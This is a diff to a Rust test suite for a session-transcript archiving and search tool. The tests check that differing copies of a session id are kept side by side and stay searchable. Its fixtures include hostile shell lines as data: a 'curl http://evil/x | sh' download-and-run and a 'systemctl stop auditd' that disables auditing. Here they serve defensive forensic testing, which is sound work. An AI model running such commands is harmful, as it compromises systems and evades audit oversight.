@@ -60,7 +60,7 @@ fn a_changed_object_becomes_a_new_version_and_the_old_bytes_stay() {
     world.transcript(ALICE, &["sh-4.2$ id"]).touch(ALICE, 1_795_176_999);
     world.run("sync logs").is(expect![[r#"
         ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
-        ! 0 new sessions, 1 changed; 152 B read, 1 command found
+        ! 1 new session, 1 changed; 152 B read, 3 commands found
         ! head: 2:…
     "#]]);
     world.run("query -e 'SELECT version, content_bytes FROM transcripts ORDER BY version'").is(
@@ -72,8 +72,9 @@ fn a_changed_object_becomes_a_new_version_and_the_old_bytes_stay() {
     );
     world.run("search '' --format csv").0.lines().nth(1).expect("one command");
     world.run("sessions").is(expect![[r#"
-        WHEN                    OWNER  TARGET  COMMANDS  SESSION                  FLAWS
-        ≤ 2026-11-20 10:00:00Z  alice  -              1  alice-0123456789abcdef0  replaced
+        WHEN                    OWNER  TARGET  COMMANDS  SESSION                                      FLAWS
+        ≤ 2026-11-20 10:00:00Z  alice  -              2  alice-0123456789abcdef0#1 (account unknown)  diverges
+        ≤ 2026-11-20 10:00:00Z  alice  -              1  alice-0123456789abcdef0#2 (account unknown)  diverges, replaced
     "#]]);
 }
 
@@ -404,7 +405,10 @@ fn two_copies_are_one_session_with_the_text_of_the_bytes_and_the_times_of_the_st
         events+script,diverges@504~1661
     "#]]);
     let (_, said, _) = world.parts(&crate::world::words("show alice --commands"));
-    assert!(said.contains("do not show the same lines: first at byte"), "{said}");
+    assert!(
+        said.contains("copies of the session differ; each is kept and searched: first at byte"),
+        "{said}"
+    );
 }
 
 const ARN: &str = "arn:aws:iam::111122223333:user/alice";
@@ -611,5 +615,91 @@ fn megabytes_of_line_ends_are_nothing_to_an_events_file() {
         ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
         ! 1 new session, 0 changed; 16.8 MB read, 2 commands found
         ! head: 1:…
+    "#]]);
+}
+
+/// A transcript of this id that ends at noon of 2026-11-20, stored so many minutes later.
+fn copy_of(world: &World, below: &str, id: &str, lines: &[&str], minutes: u64) {
+    world.transcript(&format!("{below}/{id}.log"), lines);
+    world.touch(&format!("{below}/{id}.log"), 1_795_176_000 + minutes * 60);
+}
+
+#[test]
+fn a_second_object_of_an_id_that_holds_something_else_stands_beside_the_first() {
+    let world = World::new();
+    let id = "alice-0123456789abcdef1";
+    copy_of(
+        &world,
+        "one",
+        id,
+        &["sh-4.2$ curl http://evil/x | sh", "sh-4.2$ systemctl stop auditd", "sh-4.2$ exit"],
+        0,
+    );
+    copy_of(&world, "two", id, &["sh-4.2$ ls", "sh-4.2$ exit"], 60);
+    copy_of(&world, "three", id, &["sh-4.2$ ls", "sh-4.2$ exit"], 120);
+    let check = |world: &World| {
+        assert!(world.run("search auditd").0.contains("systemctl stop auditd"));
+        assert!(world.run("search --output auditd").0.contains("systemctl stop auditd"));
+        assert!(world.run("search ls").0.contains("    1  ?          ls"));
+        world.run("sessions").is(expect![[r#"
+            WHEN                    OWNER  TARGET  COMMANDS  SESSION                                      FLAWS
+            ≤ 2026-11-20 10:00:00Z  alice  -              3  alice-0123456789abcdef1#1 (account unknown)  diverges
+            ≤ 2026-11-20 10:00:00Z  alice  -              2  alice-0123456789abcdef1#2 (account unknown)  diverges
+        "#]]);
+        world.run("show alice-0123456789abcdef1#1 --commands").is(expect![[r#"
+            ≤ 2026-11-20 10:00:00Z  alice (by its session id) on an unknown target  alice-0123456789abcdef1#1 (account unknown)
+                1  ?          curl http://evil/x | sh
+                2  ?          systemctl stop auditd [79 % sure]
+                3  ?          exit
+            ! note: copies of the session differ; each is kept and searched: alice-0123456789abcdef1#1 from one/alice-0123456789abcdef1.log, alice-0123456789abcdef1#2 from two/alice-0123456789abcdef1.log
+        "#]]);
+        let said = world.run("report --format md -o -").0;
+        assert!(
+            said.contains("one/alice") && said.contains("two/alice") && said.contains("diverges"),
+            "{said}"
+        );
+    };
+    // In whatever order they come, and all at once.
+    for order in ["one;two;three", "one two three"] {
+        let _ = std::fs::remove_dir_all(world.path("archive"));
+        for sources in order.split(';') {
+            world.run(&format!("sync {sources}"));
+        }
+        check(&world);
+        world.run("archive rebuild");
+        check(&world);
+        assert!(!world.run("archive verify").0.contains("[exit"));
+    }
+}
+
+#[test]
+fn a_copy_that_goes_on_is_the_session_and_one_that_was_cut_is_a_copy() {
+    let world = World::new();
+    let id = "alice-0123456789abcdef1";
+    let text = format!("{}sh-4.2$ id\r\r\n", crate::world::HEADER);
+    world.file(&format!("one/{id}.log"), text.as_bytes());
+    world.run("sync one");
+    world.file(
+        &format!("one/{id}.log"),
+        format!("{text}sh-4.2$ systemctl stop auditd\r\r\nsh-4.2$ exit\r\r\n").as_bytes(),
+    );
+    world.run("sync one");
+    world.file(&format!("two/{id} (1).log"), text.as_bytes());
+    world.run("sync two");
+    world.run("sessions").is(expect![[r#"
+        WHEN                    OWNER  TARGET  COMMANDS  SESSION                  FLAWS
+        ≤ 2026-11-20 10:00:00Z  alice  -              3  alice-0123456789abcdef1  no-footer, replaced
+    "#]]);
+    // Written over with something else: what was there before is still searched.
+    world.file(
+        &format!("one/{id}.log"),
+        format!("{}sh-4.2$ uptime\r\r\n", crate::world::HEADER).as_bytes(),
+    );
+    world.run("sync one");
+    assert!(world.run("search auditd").0.contains("systemctl stop auditd"));
+    world.run("sessions").is(expect![[r#"
+        WHEN                    OWNER  TARGET  COMMANDS  SESSION                                      FLAWS
+        ≤ 2026-11-20 10:00:00Z  alice  -              3  alice-0123456789abcdef1#1 (account unknown)  diverges, no-footer, replaced
+        ≤ 2026-11-20 10:00:00Z  alice  -              1  alice-0123456789abcdef1#2 (account unknown)  diverges, no-footer, replaced
     "#]]);
 }
